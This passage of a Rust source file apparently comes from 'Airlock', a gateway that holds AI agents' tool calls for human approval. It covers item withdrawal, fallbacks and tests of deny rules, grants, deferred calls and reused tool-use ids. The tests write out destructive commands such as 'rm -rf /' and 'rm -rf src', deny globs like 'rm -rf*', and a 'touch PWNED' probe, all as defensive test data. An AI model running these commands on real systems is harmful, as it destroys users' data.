            .set_agent_fallback(agent.name(), fallback)?;
        self.inner.write_fallbacks()
    }
}

impl Inner {
    /// Takes an agent item out of the inbox because its agent stopped waiting.
    pub(crate) fn withdraw(&self, approval_id: &str, why: &str) {
        self.router.forget(approval_id);
        if let Ok(Some(ApprovalStatus::Pending)) = self.store.approval_status(approval_id) {
            let withdraw =
                Settlement::new(approval_id.to_string(), Resolution::Withdraw).with_reason(why);
            match self.settle(vec![withdraw], DecidedBy::Engine) {
                Ok(outcomes) => {
                    for error in outcomes.into_iter().filter_map(|o| o.err()) {
                        tracing::debug!(%error, "agent item already settled");
                    }
                }
                Err(error) => tracing::warn!(%error, "cannot withdraw an agent item"),
            }
        }
    }

    /// After a restart: the agent items nobody came back for within the grace are withdrawn.
    pub(crate) fn withdraw_abandoned_later(self: &Arc<Self>) -> Result<()> {
        let waiting = self.store.pending_of_kind(ItemKind::AgentToolCall)?;
        if waiting.is_empty() {
            return Ok(());
        }
        let inner = self.clone();
        tokio::spawn(async move {
            tokio::time::sleep(REATTACH_GRACE).await;
            inner.withdraw_abandoned(&waiting);
        });
        Ok(())
    }

    /// Withdraws the items of `waiting` nobody waits on; a deferred one stays (its client
    /// collects the decision later, whether or not it is connected now).
    pub(crate) fn withdraw_abandoned(&self, waiting: &[String]) {
        for id in waiting {
            let deferred = matches!(self.store.approval(id), Ok(Some(row)) if is_deferred(&row));
            if !deferred
                && !self.agent_waiters.waited_on(id)
                && !self.held_by_a_replica(airlock_store::Work::AgentItem, id)
            {
                self.withdraw(
                    id,
                    "withdrawn: the agent did not come back after Airlock restarted",
                );
            }
        }
    }

    /// Writes every agent's fallback to `agents.json` (atomically: a hook never reads half).
    pub(crate) fn write_fallbacks(&self) -> Result<()> {
        let fallbacks: serde_json::Map<String, Value> = self
            .store
            .agents()?
            .into_iter()
            .map(|a| (a.name, json!(a.fallback.as_str())))
            .collect();
        write_atomically(
            &self.data_dir.join(FALLBACKS_FILE),
            Value::Object(fallbacks).to_string().as_bytes(),
        )
        .map_err(|e| EngineError::DataDir {
            path: self.data_dir.join(FALLBACKS_FILE),
            message: e.to_string(),
        })
    }
}

fn write_atomically(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
    let temporary = path.with_extension("json.tmp");
    std::fs::write(&temporary, bytes)?;
    std::fs::rename(&temporary, path)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;
    use crate::DecisionRequest;
    use airlock_client::agents::fallback_of;
    use airlock_core::{ArgRule, RuleEffect, RulePattern, ToolSetting};

    use crate::tests::empty_engine as engine;

    fn bash(command: &str, tool_use_id: Option<&str>, event: AgentEvent) -> AgentCall {
        AgentCall {
            agent: "codex".into(),
            source: None,
            client: None,
            agent_session: "s1".into(),
            cwd: Some("/work".into()),
            tool: "Bash".into(),
            input: json!({"command": command}),
            tool_use_id: tool_use_id.map(str::to_string),
            event,
            editable: event == AgentEvent::PreToolUse,
            wait_ms: Some(30_000),
            defer: false,
            takes_reason: None,
            definition: None,
            prompt: None,
        }
    }

    /// The agent's call, asked in the background (it waits for a person).
    fn asking(engine: &Engine, call: AgentCall) -> tokio::task::JoinHandle<Result<AgentAnswer>> {
        let engine = engine.clone();
        tokio::spawn(async move { engine.agent_call(call).await })
    }

    async fn waiting(engine: &Engine) -> crate::InboxItem {
        for _ in 0..200 {
            if let Some(item) = engine.inbox().unwrap().pop() {
                return item;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        panic!("nothing reached the inbox");
    }

    /// Waits until `n` callers wait on the item.
    async fn waiters(engine: &Engine, approval_id: &str, n: usize) {
        for _ in 0..500 {
            let now = engine.inner.agent_waiters.lock().get(approval_id).copied();
            if now == Some(n) {
                return;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        panic!("{approval_id} never had {n} waiters");
    }

    fn approve(id: &str, args: Option<Value>) -> DecisionRequest {
        DecisionRequest::new(
            id,
            crate::Decision::Approve(airlock_protocol::Approval {
                args,
                ..Default::default()
            }),
        )
    }

    fn deny_rule(pattern: &str) -> ArgRule {
        ArgRule {
            id: Engine::new_rule_id(),
            server: "codex".into(),
            tool: "Bash".into(),
            pointer: "/command".into(),
            pattern: RulePattern::Glob(pattern.into()),
            effect: RuleEffect::Deny,
        }
    }

    /// Claude Code's call `tool` with `input` and the tool-use id `id`.
    fn claude(tool: &str, input: Value, id: Option<&str>) -> AgentCall {
        AgentCall {
            agent: "claude-code".into(),
            tool: tool.into(),
            input,
            ..bash("", id, AgentEvent::PreToolUse)
        }
    }

    fn audited(engine: &Engine, action: &str) -> Vec<airlock_protocol::AuditRow> {
        engine
            .audit(1000)
            .unwrap()
            .into_iter()
            .filter(|row| row.action == action)
            .collect()
    }

    /// An app's call through its approval client, in the deferred style.
    fn app_call(tool_use_id: &str, input: Value) -> AgentCall {
        AgentCall {
            agent: APP_CLIENT.into(),
            client: Some("my-bot".into()),
            agent_session: "run-1".into(),
            cwd: None,
            tool: "delete_file".into(),
            input,
            tool_use_id: Some(tool_use_id.into()),
            editable: true,
            defer: true,
            wait_ms: None,
            ..bash("", None, AgentEvent::PreToolUse)
        }
    }

    /// The deferred style: the id comes back at once with the item pending; nobody waits on it
    /// and it can be approved all the same; its decision reads the same every time, by id or by
    /// posting the same call again; the app is listed among the agents under its own name.
    #[tokio::test]
    async fn a_deferred_call_is_pending_at_once_and_its_decision_reads_the_same_twice() {
        let (_dir, engine) = engine();
        let posted = engine
            .agent_call_with_state(app_call("call_1", json!({"path": "a.txt"})))
            .await
            .unwrap();
        assert_eq!(posted.status, Some(ApprovalStatus::Pending));
        assert_eq!(posted.answer.verdict, AgentVerdict::Undecided);
        let id = posted.answer.approval_id.clone().expect("an id at once");
        let item = waiting(&engine).await;
        assert_eq!(item.approval_id, id);
        assert_eq!(
            (item.server.as_str(), item.tool.as_str()),
            ("my-bot", "delete_file")
        );
        assert!(!engine.inner.agent_waiters.waited_on(&id));
        // Still pending when read (a long poll that ends at its deadline).
        let read = engine
            .agent_call_state(&id, Duration::from_millis(20))
            .await
            .unwrap();
        assert_eq!(read.status, Some(ApprovalStatus::Pending));
        // Approved with an edit while nobody waits.
        let edit = json!({"path": "b.txt"});
        engine
            .decide(approve(&id, Some(edit.clone())), DecidedBy::Inbox)
            .unwrap();
        let first = engine.agent_call_state(&id, Duration::ZERO).await.unwrap();
        assert_eq!(first.answer.verdict, AgentVerdict::Allow);
        assert_eq!(first.answer.updated_input, Some(edit));
        assert_eq!(first.status, Some(ApprovalStatus::Approved));
        let second = engine.agent_call_state(&id, Duration::ZERO).await.unwrap();
        assert_eq!(first, second);
        // The same call posted again (the app resumed from its saved state) finds it.
        let again = engine
            .agent_call_with_state(app_call("call_1", json!({"path": "a.txt"})))
            .await
            .unwrap();
        assert_eq!(again, first);
        assert_eq!(engine.inbox().unwrap().len(), 0);
        let agents = engine.agents().unwrap();
        let me = agents.iter().find(|a| a.name == "my-bot").expect("listed");
        assert_eq!(me.last_tool.as_deref(), Some("delete_file"));
    }

    /// Settings → Agents: a program is listed with its token's state, from the moment its token
    /// is issued (before it asked anything) until it is revoked.
    #[tokio::test]
    async fn a_program_is_listed_with_its_own_tokens_state() {
        let (_dir, engine) = engine();
        let view = |engine: &Engine, name: &str| {
            engine
                .agents()
                .unwrap()
                .into_iter()
                .find(|a| a.name == name)
        };
        engine.issue_agent_token("my-bot").unwrap();
        let issued = view(&engine, "my-bot").expect("listed once its token is issued");
        assert!(issued.token_issued_at.is_some(), "{issued:?}");
        assert_eq!(issued.last_tool, None);
        engine
            .agent_call_with_state(app_call("call_1", json!({"path": "a.txt"})))
            .await
            .unwrap();
        let asked = view(&engine, "my-bot").unwrap();
        assert_eq!(asked.last_tool.as_deref(), Some("delete_file"));
        assert_eq!(asked.token_issued_at, issued.token_issued_at);
        assert!(engine.revoke_agent_token("my-bot").unwrap());
        let revoked = view(&engine, "my-bot").expect("still listed: it asked before");
        assert_eq!(revoked.token_issued_at, None);
        assert_eq!(
            view(&engine, "claude-code").unwrap().token_issued_at,
            None,
            "an agent without a token"
        );
    }

    /// A long poll returns as soon as a person decides, with the reason the model reads.
    #[tokio::test]
    async fn a_long_poll_returns_the_denial_when_it_is_made() {
        let (_dir, engine) = engine();
        let posted = engine
            .agent_call_with_state(app_call("call_1", json!({"path": "a.txt"})))
            .await
            .unwrap();
        let id = posted.answer.approval_id.unwrap();
        let poll = {
            let (engine, id) = (engine.clone(), id.clone());
            tokio::spawn(async move { engine.agent_call_state(&id, Duration::from_secs(30)).await })
        };
        engine
            .decide(
                DecisionRequest::deny(&id, Some("not that file".into())),
                DecidedBy::Inbox,
            )
            .unwrap();
        let state = poll.await.unwrap().unwrap();
        assert_eq!(state.answer.verdict, AgentVerdict::Deny);
        assert_eq!(state.answer.reason.as_deref(), Some("not that file"));
        assert_eq!(state.status, Some(ApprovalStatus::Denied));
        // Nothing to run, nothing to claim.
        let claim = engine.claim_agent_call(&id);
        assert!(
            matches!(claim, Err(EngineError::NotAllowed(_))),
            "{claim:?}"
        );
    }

    /// Exactly once: an approved call is claimed before its client runs it, and only once —
    /// the app that resumes after it ran (or crashed in between) is refused, audited.
    #[tokio::test]
    async fn an_approved_deferred_call_is_claimed_to_run_once() {
        let (_dir, engine) = engine();
        let posted = engine
            .agent_call_with_state(app_call("call_1", json!({"path": "a.txt"})))
            .await
            .unwrap();
        let id = posted.answer.approval_id.unwrap();
        let early = engine.claim_agent_call(&id);
        assert!(
            matches!(early, Err(EngineError::NotAllowed(_))),
            "{early:?}"
        );
        engine.decide(approve(&id, None), DecidedBy::Inbox).unwrap();
        let claimed = engine.claim_agent_call(&id).unwrap();
        assert_eq!(claimed.answer.verdict, AgentVerdict::Allow);
        let at = claimed.claimed_at.clone().expect("claimed");
        let twice = engine.claim_agent_call(&id).unwrap_err();
        assert_eq!(
            twice.code(),
            airlock_protocol::ErrorCode::AlreadyDecided,
            "{twice}"
        );
        assert!(twice.to_string().contains("at most once"), "{twice}");
        let read = engine.agent_call_state(&id, Duration::ZERO).await.unwrap();
        assert_eq!(read.claimed_at.as_deref(), Some(at.as_str()));
        assert_eq!(audited(&engine, "agent_call_claimed").len(), 1);
    }

    /// A restarted engine withdraws the hooks' items nobody came back for, never a deferred
    /// one: it is approved without anyone waiting, and the app reads the decision later.
    #[tokio::test]
    async fn a_deferred_call_outlives_a_restart_and_is_approved_without_a_waiter() {
        let (dir, before) = engine();
        let posted = before
            .agent_call_with_state(app_call("call_1", json!({"path": "a.txt"})))
            .await
            .unwrap();
        let id = posted.answer.approval_id.unwrap();
        let hook = asking(
            &before,
            bash("cargo publish", Some("c1"), AgentEvent::PreToolUse),
        );
        let hook_item = loop {
            if let Some(item) = before
                .inbox()
                .unwrap()
                .into_iter()
                .find(|i| i.tool == "Bash")
            {
                break item;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        };
        let after = Engine::open(crate::EngineConfig {
            data_dir: dir.path().to_path_buf(),
            workspace: Some(dir.path().join("workspace")),
        })
        .unwrap();
        // The grace has passed: the hook's item goes...
        let waiting = after
            .inner
            .store
            .pending_of_kind(ItemKind::AgentToolCall)
            .unwrap();
        assert_eq!(waiting.len(), 2);
        after.inner.withdraw_abandoned(&waiting);
        assert_eq!(
            after
                .approval(&hook_item.approval_id)
                .unwrap()
                .unwrap()
                .status,
            ApprovalStatus::Withdrawn
        );
        // ...the deferred one stays, and is approved with nobody waiting.
        assert_eq!(
            after.approval(&id).unwrap().unwrap().status,
            ApprovalStatus::Pending
        );
        after.decide(approve(&id, None), DecidedBy::Inbox).unwrap();
        let state = after.agent_call_state(&id, Duration::ZERO).await.unwrap();
        assert_eq!(state.answer.verdict, AgentVerdict::Allow);
        hook.abort();
    }

    /// An app names itself, with a name no agent or server has; only an app's call with its
    /// tool-use id can be deferred.
    #[tokio::test]
    async fn an_apps_call_is_refused_without_a_name_of_its_own() {
        let (_dir, engine) = engine();
        let refused = |call: AgentCall| {
            let engine = engine.clone();
            async move {
                match engine.agent_call_with_state(call).await {
                    Err(EngineError::Invalid(why)) => why,
                    other => panic!("not refused: {other:?}"),
                }
            }
        };
        let call = app_call("c", json!({}));
        let why = refused(AgentCall {
            client: None,
            ..call.clone()
        })
        .await;
        assert!(why.contains("names its client"), "{why}");
        for taken in ["codex", "claude-code", "mcp-client", "app", "builtin"] {
            refused(AgentCall {
                client: Some(taken.into()),
                ..call.clone()
            })
            .await;
        }
        let why = refused(AgentCall {
            tool_use_id: None,
            ..call.clone()
        })
        .await;
        assert!(why.contains("tool-use id"), "{why}");
        let why = refused(AgentCall {
            defer: true,
            ..bash("ls", Some("x"), AgentEvent::PreToolUse)
        })
        .await;
        assert!(why.contains("only an app"), "{why}");
        assert!(engine.inbox().unwrap().is_empty());
    }

    /// `airlock connect` makes Claude Code's reads need no approval inside Airlock, shown in
    /// Settings → Tools, and never overwrites a setting the person made.
    #[tokio::test]
    async fn connect_lets_the_agents_reads_through_and_keeps_a_persons_choice() {
        let (_dir, engine) = engine();
        engine
            .set_tool_setting("claude-code", "Grep", ToolSetting::Required)
            .unwrap();
        let defaults = engine.connect_agent_defaults("claude-code").unwrap();
        assert_eq!(
            defaults.set,
            ["Read", "Glob", "LS", "NotebookRead", "TodoWrite"]
        );
        assert_eq!(defaults.kept, ["Grep"]);
        // Again: nothing changes, the person's choice stays.
        let again = engine.connect_agent_defaults("claude-code").unwrap();
        assert!(again.set.is_empty(), "{again:?}");
        let setting_of = |tool: &str| {
            engine
                .tool_views()
                .unwrap()
                .into_iter()
                .find(|v| v.server == "claude-code" && v.tool == tool)
                .unwrap_or_else(|| panic!("claude-code/{tool} is not in Settings → Tools"))
        };
        assert_eq!(setting_of("Read").setting, ToolSetting::NotRequired);
        assert_eq!(setting_of("Grep").setting, ToolSetting::Required);
        assert_eq!(setting_of("Bash").effective, ToolSetting::Required);
        // A read runs at once; the Grep the person wants to see waits in the inbox.
        let read = engine
            .agent_call(claude(
                "Read",
                json!({"file_path": "/work/a.txt"}),
                Some("t1"),
            ))
            .await
            .unwrap();
        assert_eq!(read.verdict, AgentVerdict::Allow);
        assert!(engine.inbox().unwrap().is_empty());
        let grep = asking(&engine, claude("Grep", json!({"pattern": "x"}), Some("t2")));
        let item = waiting(&engine).await;
        assert_eq!(item.tool, "Grep");
        grep.abort();
        // Codex reports no read-only tool of its own: nothing is set.
        let codex = engine.connect_agent_defaults("codex").unwrap();
        assert!(codex.set.is_empty() && codex.kept.is_empty());
        assert!(engine.connect_agent_defaults("mcp-client").is_err());
    }

    /// An agent's session keeps its id as its name (the key) and gets a title a person reads:
    /// the folder first, the folder and the first prompt once the hook could read it.
    #[tokio::test]
    async fn an_agents_session_is_titled_by_its_folder_and_first_prompt() {
        let (_dir, engine) = engine();
        engine.connect_agent_defaults("claude-code").unwrap();
        let read = |prompt: Option<&str>, id: &str| AgentCall {
            cwd: Some("/home/me/src/airlock".into()),
            prompt: prompt.map(str::to_string),
            ..claude("Read", json!({"file_path": "a"}), Some(id))
        };
        let title = || {
            let sessions = engine.sessions().unwrap();
            let session = sessions
                .iter()
                .find(|s| s.name == "claude-code:s1")
                .expect("the session keeps its key as its name");
            session.title.clone()
        };
        engine.agent_call(read(None, "t1")).await.unwrap();
        assert_eq!(title().as_deref(), Some("airlock"));
        let long = "  Fix the failing\ttest in crates/cli/tests/gateway.rs and then make sure every other test passes\nsecond line";
        engine.agent_call(read(Some(long), "t2")).await.unwrap();
        assert_eq!(
            title().as_deref(),
            Some("airlock: Fix the failing test in crates/cli/tests/gateway.rs and then…")
        );
        // Named once: a later prompt does not rename it.
        engine
            .agent_call(read(Some("something else"), "t3"))
            .await
            .unwrap();
        assert!(title().unwrap().starts_with("airlock: Fix the failing"));
    }

    /// A model backend that repeats tool-use ids: the answer given to a `Read` with id X is not
    /// the answer to a `Bash` with id X. That one is a new inbox item, said so, and nothing
    /// runs until a person decides it.
    #[tokio::test]
    async fn an_approved_id_reused_for_another_call_is_asked_anew() {
        let (_dir, engine) = engine();
        let read = claude(
            "Read",
            json!({"file_path": "/work/README.md"}),
            Some("toolu_X"),
        );
        let first = asking(&engine, read.clone());
        let item = waiting(&engine).await;
        engine
            .decide(approve(&item.approval_id, None), DecidedBy::Inbox)
            .unwrap();
        assert_eq!(first.await.unwrap().unwrap().verdict, AgentVerdict::Allow);

        let pwned = asking(
            &engine,
            claude("Bash", json!({"command": "touch PWNED"}), Some("toolu_X")),
        );
        let asked = waiting(&engine).await;
        assert_ne!(asked.approval_id, item.approval_id);
        assert_eq!(asked.args, json!({"command": "touch PWNED"}));
        assert!(asked.why.contains("reused the id"), "{}", asked.why);
        assert!(!pwned.is_finished(), "the reused id was answered unasked");
        assert_eq!(audited(&engine, "agent_id_reused").len(), 1);
        engine
            .decide(
                DecisionRequest::deny(&asked.approval_id, None),
                DecidedBy::Inbox,
            )
            .unwrap();
        assert_eq!(pwned.await.unwrap().unwrap().verdict, AgentVerdict::Deny);

        // The same Read with its id again (its hook coming back for the answer it missed):
        // the kept answer, audited.
        let again = engine.agent_call(read).await.unwrap();
        assert_eq!(again.verdict, AgentVerdict::Allow);
        assert_eq!(
            again.approval_id.as_deref(),
            Some(item.approval_id.as_str())
        );
        let reused = audited(&engine, "agent_answer_reused");
        assert_eq!(reused.len(), 1, "{reused:?}");
        assert_eq!(
            reused[0].approval_id.as_deref(),
            Some(item.approval_id.as_str())
        );
    }

    /// Without an id the engine cannot tell a retry from the next identical call: a decided
    /// answer is never reused for it (only Codex's PermissionRequest about the call it just
    /// decided follows it), and no answer outlives its item's life.
    #[tokio::test]
    async fn an_identical_call_without_an_id_is_asked_again() {
        let (_dir, engine) = engine();
        let first = asking(&engine, bash("make", None, AgentEvent::PreToolUse));
        let item = waiting(&engine).await;
        engine
            .decide(approve(&item.approval_id, None), DecidedBy::Inbox)
            .unwrap();
        assert_eq!(first.await.unwrap().unwrap().verdict, AgentVerdict::Allow);
        let second = asking(&engine, bash("make", None, AgentEvent::PreToolUse));
        let asked = waiting(&engine).await;
        assert_ne!(
            asked.approval_id, item.approval_id,
            "the approval was reused"
        );
        assert!(!second.is_finished());
        second.abort();

        // Past its life, a decided answer answers nobody, with an id or without.
        let row = engine.approval(&item.approval_id).unwrap().unwrap();
        let long_ago = EarlierAgentRequest {
            row,
            decided_at: Some(airlock_store::time_before(
                ANSWER_KEPT + Duration::from_secs(5),
            )),
        };
        for call in [
            bash("make", Some("c9"), AgentEvent::PreToolUse),
            bash("make", None, AgentEvent::PermissionRequest),
        ] {
            assert!(!engine.still_answers(&call, &long_ago), "{call:?}");
        }
        let just_now = EarlierAgentRequest {
            decided_at: Some(airlock_store::time_before(Duration::ZERO)),
            ..long_ago
        };
        assert!(engine.still_answers(
            &bash("make", None, AgentEvent::PermissionRequest),
            &just_now
        ));
        assert!(!engine.still_answers(&bash("make", None, AgentEvent::PreToolUse), &just_now));
    }

    /// After a restart the item waits for its hook for a while; until the hook is back, nobody
    /// can approve it (it would run nothing, yet say approved). Once back, it can.
    #[tokio::test]
    async fn an_item_whose_hook_is_gone_cannot_be_approved_until_it_comes_back() {
        let (dir, before) = engine();
        let call = bash("cargo publish", Some("c1"), AgentEvent::PreToolUse);
        let waiter = asking(&before, call.clone());
        let item = waiting(&before).await;
        // The restarted engine: the same data, nobody waiting on its item.
        let after = Engine::open(crate::EngineConfig {
            data_dir: dir.path().to_path_buf(),
            workspace: Some(dir.path().join("workspace")),
        })
        .unwrap();
        assert_eq!(after.inbox().unwrap().len(), 1);
        let refused = after.decide(approve(&item.approval_id, None), DecidedBy::Inbox);
        assert!(
            matches!(refused, Err(EngineError::NotAllowed(_))),
            "an item nobody waits on was approved: {refused:?}"
        );
        assert_eq!(
            after.approval(&item.approval_id).unwrap().unwrap().status,
            ApprovalStatus::Pending
        );
        // The hook comes back to its item: now the approval reaches it.
        let back = asking(&after, call);
        waiters(&after, &item.approval_id, 1).await;
        after
            .decide(approve(&item.approval_id, None), DecidedBy::Inbox)
            .unwrap();
        assert_eq!(back.await.unwrap().unwrap().verdict, AgentVerdict::Allow);
        waiter.abort();
    }

    /// An upgrade: `agents.json` as an older Airlock wrote it (every fallback `ask`, nobody
    /// chose it) would keep answering `ask` for Claude Code after the store moved it to deny, as
    /// long as nobody changed a fallback. The engine writes the file again when it opens.
    #[tokio::test]
    async fn an_older_agents_file_is_rewritten_as_the_store_has_it_when_the_engine_opens() {
        let (dir, engine) = engine();
        // Both agents known to the store with the default, deny; the file from before says ask.
        for mut call in [
            claude("Bash", json!({"command": "ls"}), Some("t1")),
            bash("ls", Some("c1"), AgentEvent::PreToolUse),
        ] {
            call.wait_ms = Some(10);
            engine.agent_call(call).await.unwrap();
        }
        drop(engine);
        std::fs::write(
            dir.path().join(FALLBACKS_FILE),
            r#"{"claude-code":"ask","codex":"ask"}"#,
        )
        .unwrap();
        let _reopened = Engine::open(crate::EngineConfig {
            data_dir: dir.path().to_path_buf(),
            workspace: Some(dir.path().join("workspace")),
        })
        .unwrap();
        assert_eq!(fallback_of(dir.path(), "claude-code"), AgentFallback::Deny);
        assert_eq!(fallback_of(dir.path(), "codex"), AgentFallback::Deny);
    }

    /// Codex's first request records it with its own default: deny, in Settings and in the
    /// file its hook reads.
    #[tokio::test]
    async fn a_codex_that_asked_keeps_its_default_fallback() {
        let (dir, engine) = engine();
        let mut call = bash("ls", Some("c1"), AgentEvent::PreToolUse);
        call.wait_ms = Some(10);
        engine.agent_call(call).await.unwrap();
        let codex = engine
            .agents()
            .unwrap()
            .into_iter()
            .find(|a| a.name == "codex")
            .unwrap();
        assert_eq!(codex.fallback, AgentFallback::Deny);
        engine
            .set_agent_fallback("claude-code", AgentFallback::Deny)
            .unwrap();
        assert_eq!(fallback_of(dir.path(), "codex"), AgentFallback::Deny);
    }

    #[tokio::test]
    async fn asking_twice_finds_one_item_and_a_withdrawn_one_cannot_be_approved() {
        let (_dir, engine) = engine();
        let first = asking(
            &engine,
            bash("make", Some("call_1"), AgentEvent::PreToolUse),
        );
        let item = waiting(&engine).await;
        let second = asking(
            &engine,
            bash("make", Some("call_1"), AgentEvent::PreToolUse),
        );
        // The second asker waits on the first's item (it would never, had it made its own).
        waiters(&engine, &item.approval_id, 2).await;
        assert_eq!(
            engine.inbox().unwrap().len(),
            1,
            "asking twice made two items"
        );
        // One waiter gone (its task dropped, so its leaving is done): the other still waits,
        // the item stays.
        first.abort();
        assert!(first.await.unwrap_err().is_cancelled());
        assert_eq!(
            engine.inbox().unwrap().len(),
            1,
            "one waiter leaving withdrew the item"
        );
        second.abort();
        assert!(second.await.unwrap_err().is_cancelled());
        assert!(
            engine.inbox().unwrap().is_empty(),
            "the last waiter left; the item stayed"
        );
        let row = engine.approval(&item.approval_id).unwrap().unwrap();
        assert_eq!(row.status, ApprovalStatus::Withdrawn);
        let refused = engine.decide(approve(&item.approval_id, None), DecidedBy::Inbox);
        assert!(refused.is_err(), "a withdrawn item was approved");
    }

    /// A counted grant on an agent's tool: the next call runs without an item (its use taken
    /// as it is recorded), the one after asks again.
    #[tokio::test]
    async fn an_agents_counted_grant_lets_exactly_its_calls_through() {
        let (_dir, engine) = engine();
        let first = asking(
            &engine,
            bash("cargo test", Some("t1"), AgentEvent::PreToolUse),
        );
        let item = waiting(&engine).await;
        engine
            .decide(
                DecisionRequest::new(
                    &item.approval_id,
                    crate::Decision::Approve(airlock_protocol::Approval {
                        grant: Some(airlock_protocol::GrantRequest {
                            times: Some(2),
                            ..Default::default()
                        }),
                        ..Default::default()
                    }),
                ),
                DecidedBy::Inbox,
            )
            .unwrap();
        assert_eq!(first.await.unwrap().unwrap().verdict, AgentVerdict::Allow);
        assert_eq!(engine.grants().unwrap()[0].entry.uses_left, Some(1));
        let second = engine
            .agent_call(bash(
                "cargo test --workspace",
                Some("t2"),
                AgentEvent::PreToolUse,
            ))
            .await
            .unwrap();
        assert_eq!(second.verdict, AgentVerdict::Allow);
        assert_eq!(second.decided_by.as_deref(), Some("policy"));
        assert!(engine.grants().unwrap().is_empty(), "the grant is used up");
        let third = asking(
            &engine,
            bash("rm -rf target", Some("t3"), AgentEvent::PreToolUse),
        );
        let asked = waiting(&engine).await;
        assert_eq!(asked.args["command"], "rm -rf target");
        third.abort();
    }

    /// A removed rule stops applying to the very next call (the cached policy is dropped),
    /// and its removal is audited; an unknown id is an error, not a silent success.
    #[tokio::test]
    async fn a_removed_rule_stops_applying_at_once() {
        let (_dir, engine) = engine();
        let rule = engine
            .add_rule(ArgRule {
                effect: RuleEffect::Allow,
                ..deny_rule("ls *")
            })
            .unwrap()
            .rule;
        let allowed = engine
            .agent_call(bash("ls src", Some("c0"), AgentEvent::PreToolUse))
            .await
            .unwrap();
        assert_eq!(allowed.verdict, AgentVerdict::Allow);

        engine.remove_rule(&rule.id).unwrap();
        assert!(engine.rules().unwrap().is_empty());
        let audited = engine.audit(100).unwrap();
        assert!(
            audited
                .iter()
                .any(|row| row.action == "rule_removed" && row.detail["id"] == rule.id.as_str()),
            "{audited:?}"
        );
        let call = asking(&engine, bash("ls src", Some("c1"), AgentEvent::PreToolUse));
        let asked = waiting(&engine).await;
        assert_eq!(asked.args["command"], "ls src");
        call.abort();

        let unknown = engine.remove_rule(&rule.id).unwrap_err();
        assert!(matches!(unknown, EngineError::UnknownRule(_)), "{unknown}");
        assert_eq!(unknown.code(), crate::ErrorCode::UnknownRule);
    }

    /// Adding a rule identical to one already there adds nothing, audits nothing, and answers
    /// with the rule already there.
    #[tokio::test]
    async fn adding_an_identical_rule_changes_nothing_and_says_so() {
        let (_dir, engine) = engine();
        let first = engine.add_rule(deny_rule("rm -rf*")).unwrap();
        assert!(!first.already_existed);
        let audits = engine.audit(1000).unwrap().len();
        let again = engine.add_rule(deny_rule("rm -rf*")).unwrap();
        assert!(again.already_existed);
        assert_eq!(
            again.rule, first.rule,
            "the answer is the rule already there"
        );
        assert_eq!(engine.rules().unwrap().len(), 1);
        assert_eq!(engine.audit(1000).unwrap().len(), audits, "nothing audited");
        // Another effect or pattern is another rule.
        let other = engine
            .add_rule(ArgRule {
                effect: RuleEffect::Ask,
                ..deny_rule("rm -rf*")
            })
            .unwrap();
        assert!(!other.already_existed);
        assert_eq!(engine.rules().unwrap().len(), 2);
    }

    /// Issue 27, item 2: an allow rule added while calls wait (Insights' "Add rule") names the
    /// waiting calls it covers, and decides none of them: they still wait for the person.
    #[tokio::test]
    async fn an_allow_rule_names_the_waiting_calls_it_covers_and_decides_none() {
        let (_dir, engine) = engine();
        let covered = asking(&engine, bash("ls src", Some("c1"), AgentEvent::PreToolUse));
        waiting(&engine).await;
        let other = asking(
            &engine,
            bash("rm -rf src", Some("c2"), AgentEvent::PreToolUse),
        );
        let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
        while engine.inbox().unwrap().len() < 2 {
            assert!(
                tokio::time::Instant::now() < deadline,
                "two calls never waited"
            );
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        let added = engine
            .add_rule(ArgRule {
                effect: RuleEffect::Allow,
                ..deny_rule("ls *")
            })
            .unwrap();
        let named: Vec<&str> = added
            .covers_waiting
            .iter()
            .map(|item| item.args["command"].as_str().unwrap_or_default())
            .collect();
        assert_eq!(named, ["ls src"], "only the call the rule covers");
        assert_eq!(
            engine.inbox().unwrap().len(),
            2,
            "the rule decided a waiting call"
        );
        // A deny rule names none (it is not offered to approve anything).
        let denying = engine.add_rule(deny_rule("rm *")).unwrap();
        assert!(denying.covers_waiting.is_empty());
        covered.abort();
        other.abort();
    }

    #[tokio::test]
    async fn an_edit_is_checked_against_deny_rules_and_what_the_agent_can_take() {
        let (_dir, engine) = engine();
        engine.add_rule(deny_rule("rm -rf*")).unwrap();
        // A deny rule decides without asking.
        let denied = engine
            .agent_call(bash("rm -rf /", Some("c0"), AgentEvent::PreToolUse))
            .await
            .unwrap();
        assert_eq!(denied.verdict, AgentVerdict::Deny);
        assert!(engine.inbox().unwrap().is_empty());

        let call = asking(&engine, bash("ls", Some("c1"), AgentEvent::PreToolUse));
        let item = waiting(&engine).await;
        assert!(item.editable);
        // An edit into what a deny rule forbids is refused; so is one without a command, and
        // approving from a notification.
        for edit in [
            json!({"command": "rm -rf /"}),
            json!({"cmd": "ls"}),
            json!(["ls"]),
        ] {
            let refused = engine.decide(
                approve(&item.approval_id, Some(edit.clone())),
                DecidedBy::Inbox,
            );
            assert!(refused.is_err(), "edit {edit} was accepted");
        }
        let from_notification =
            engine.decide(approve(&item.approval_id, None), DecidedBy::Notification);
        assert!(
            from_notification.is_err(),
            "a notification approved an agent's call"
        );
        engine
            .decide(
                approve(&item.approval_id, Some(json!({"command": "ls -la"}))),
                DecidedBy::Inbox,
            )
            .unwrap();
        let answer = call.await.unwrap().unwrap();
        assert_eq!(answer.verdict, AgentVerdict::Allow);
        assert_eq!(answer.updated_input, Some(json!({"command": "ls -la"})));

        // Codex's PermissionRequest about the call it was just allowed: the same answer, no new
        // item; and it cannot take an edit.
        let again = engine
            .agent_call(bash("ls", None, AgentEvent::PermissionRequest))
            .await
            .unwrap();
        assert_eq!(again.verdict, AgentVerdict::Allow);
        assert!(engine.inbox().unwrap().is_empty());
        let call = asking(&engine, bash("pwd", None, AgentEvent::PermissionRequest));
        let item = waiting(&engine).await;
        assert!(!item.editable);
        let refused = engine.decide(
            approve(&item.approval_id, Some(json!({"command": "pwd"}))),
            DecidedBy::Inbox,
        );
        assert!(
            refused.is_err(),
            "an edit the agent cannot run was accepted"
        );
        call.abort();
    }

    /// Issue 28: an item says which decisions it takes. A hook that can run an edited input
    /// (PreToolUse) offers an edit; one that cannot (Codex's PermissionRequest) does not, and
    /// the engine refuses the edit it did not offer, leaving the call waiting.
    #[tokio::test]
